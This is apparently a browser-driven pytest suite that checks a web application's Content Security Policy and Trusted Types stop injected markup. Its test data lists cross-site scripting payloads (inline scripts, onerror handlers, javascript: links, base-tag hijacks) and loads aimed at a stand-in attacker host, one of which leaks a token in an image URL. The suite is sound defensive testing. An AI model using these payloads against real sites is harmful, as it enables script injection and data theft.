"""The second wall: an application lets markup through, and what it holds stays dead under the default policy.

Each try is seen by the page (`securitypolicyviolation`) and by the site, as an event that the browser's report became.
"""

from urllib.parse import quote

import pytest

from fastness.testing.chromium import chromium
from tests.attacks.site import running_site
from tests.browser.elsewhere import elsewhere
from tests.browser.library_site import wait_until

WAIT_MILLISECONDS = 15_000
WATCH = """
window.refused = [];
addEventListener("securitypolicyviolation", (event) => window.refused.push(event.effectiveDirective));
"""


@pytest.fixture(scope="module")
def browser():
    with chromium() as context:
        context.set_default_timeout(WAIT_MILLISECONDS)
        context.add_init_script(WATCH)
        yield context


@pytest.fixture(scope="module")
def evil():
    with elsewhere() as place:
        yield place


@pytest.fixture
def page(browser, target, evil):
    """A page in which a dialog or a request to the attacker fails the test."""
    evil.asked = []
    page = browser.new_page()
    dialogs = []
    page.on("dialog", lambda dialog: dismiss(dialog, dialogs))
    yield page
    assert dialogs == []
    assert evil.asked == []
    page.close()


def dismiss(dialog, noted):
    noted.append(dialog.message)
    dialog.dismiss()


def refuses(page, directive):
    wait_until(page, f"window.refused.includes({directive!r})")


@pytest.mark.parametrize(
    ("markup", "directive"),
    [
        pytest.param("<script>window.ran = true; alert(1)</script>", "script-src-elem", id="inline-script"),
        pytest.param("<script src='EVIL/x.js'></script>", "script-src-elem", id="foreign-script"),
        pytest.param("<script src='/static/site.css'></script>", "script-src-elem", id="own-file-as-script"),
        pytest.param(
            "<script nonce='guess'>window.ran = true; alert(1)</script>", "script-src-elem", id="guessed-nonce"
        ),
        pytest.param("<script src='data:text/javascript,alert(1)'></script>", "script-src-elem", id="data-script"),
        pytest.param("<svg><script>window.ran = true; alert(1)</script></svg>", "script-src-elem", id="svg-script"),
        pytest.param("<img src='/nowhere' onerror='window.ran = true; alert(1)'>", "script-src-attr", id="onerror"),
        pytest.param("<svg onload='window.ran = true; alert(1)'></svg>", "script-src-attr", id="onload"),
        pytest.param("<iframe srcdoc='<script>alert(1)</script>'></iframe>", "script-src-elem", id="srcdoc"),
        pytest.param("<iframe src='EVIL/frame'></iframe>", "frame-src", id="frame"),
        pytest.param("<object data='EVIL/object'></object>", "object-src", id="object"),
        pytest.param("<embed src='EVIL/embed'>", "object-src", id="embed"),
        pytest.param("<base href='EVIL/'>", "base-uri", id="base"),
        pytest.param("<img src='EVIL/leak'>", "img-src", id="image"),
        pytest.param("<link rel=stylesheet href='EVIL/style'>", "style-src-elem", id="stylesheet"),
        pytest.param("<style>body { background: red }</style>", "style-src-elem", id="style"),
        pytest.param("<p style='background: url(EVIL/leak)'>", "style-src-attr", id="style-attribute"),
        pytest.param("<video src='EVIL/video'></video>", "media-src", id="video"),
    ],
)
def test_v3_4_3_injected_markup_runs_nothing_and_loads_nothing(page, target, evil, markup, directive):
    page.goto(f"{target.address}/unescaped?markup={quote(markup.replace('EVIL', evil.at('127.0.0.1')))}")
    if "srcdoc" not in markup:  # a frame of its own, with a policy of the page that made it
        refuses(page, directive)
    assert page.evaluate("window.ranOwn") is True
    assert page.evaluate("window.ran") is None


@pytest.fixture(scope="module")
def heard(seeded, tmp_path_factory):
    """A site of its own for the reports: after twenty in a minute from one address no more are taken."""
    with running_site(seeded, tmp_path_factory.mktemp("heard")) as site:
        yield site


@pytest.mark.parametrize(
    ("markup", "directive", "blocked"),
    [
        pytest.param("<script>alert(1)</script>", "script-src-elem", "inline", id="inline-script"),
        pytest.param("<img src='/nowhere' onerror='alert(1)'>", "script-src-attr", "inline", id="handler"),
        pytest.param("<img src='EVIL/leak?token=secret'>", "img-src", "http://127.0.0.1", id="image"),
        pytest.param("<base href='EVIL/'>", "base-uri", "http://127.0.0.1", id="base"),
    ],
)
def test_v3_4_7_what_was_stopped_is_an_event(page, heard, evil, markup, directive, blocked):
    with heard.records("csp_violation") as events:
        page.goto(f"{heard.address}/unescaped?markup={quote(markup.replace('EVIL', evil.at('127.0.0.1')))}")
    assert events[0]["detail"] == {"directive": directive, "blocked": blocked, "page": "unescaped"}
    assert "secret" not in str(events)


CLICKS = [
    pytest.param("<a id='go' href='javascript:window.ran = true'>go</a>", "script-src-elem", id="link"),
    pytest.param("<form action='javascript:window.ran = true'><button id='go'>go</button></form>", None, id="form"),
    pytest.param("<button id='go' onclick='window.ran = true'>go</button>", "script-src-attr", id="onclick"),
    pytest.param(
        "<form action='EVIL/form' method=post><button id='go'>go</button></form>", "form-action", id="form-away"
    ),
]


@pytest.mark.parametrize(("markup", "directive"), CLICKS)
def test_v3_4_3_nor_does_it_when_it_is_clicked(page, target, evil, markup, directive):
    page.goto(f"{target.address}/unescaped?markup={quote(markup.replace('EVIL', evil.at('127.0.0.1')))}")
    page.locator("#go").click(no_wait_after=True)
    if directive is not None:
        refuses(page, directive)
    assert page.evaluate("window.ran") is None
    assert page.url.startswith(target.address)


@pytest.mark.parametrize(
    "code",
    [
        pytest.param("document.getElementById('place').innerHTML = '<b>text</b>'", id="innerhtml"),
        pytest.param("document.write('<b>text</b>')", id="document-write"),
        pytest.param("document.createElement('script').text = '1'", id="script-text"),
        pytest.param("document.createElement('script').src = '/x.js'", id="script-address"),
        pytest.param("document.body.setAttribute('onclick', '1')", id="handler-attribute"),
        pytest.param("document.createElement('iframe').srcdoc = '<b>text</b>'", id="srcdoc"),
        pytest.param("new DOMParser().parseFromString('<b>text</b>', 'text/html')", id="parser"),
        pytest.param("setTimeout('1', 0)", id="timer"),
    ],
)
def test_v3_2_2_v3_4_3_the_sites_own_scripts_cannot_write_markup_either(page, target, code):
    """Trusted Types: text that reaches such a place throws, whoever wrote it there."""
    page.goto(target.address + "/unescaped")
    outcome = page.evaluate(f"(() => {{ try {{ {code}; return 'done'; }} catch (error) {{ return error.name; }} }})()")
    assert outcome == "TypeError"
